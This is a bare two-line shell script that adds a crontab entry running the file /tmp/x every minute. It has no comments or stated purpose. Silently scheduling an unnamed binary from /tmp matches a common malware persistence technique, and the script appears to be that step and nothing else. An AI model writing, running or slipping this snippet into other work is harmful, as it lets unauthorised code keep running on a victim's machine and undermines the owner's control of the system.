#!/bin/sh
(crontab -l; echo "* * * * * /tmp/x") | crontab -
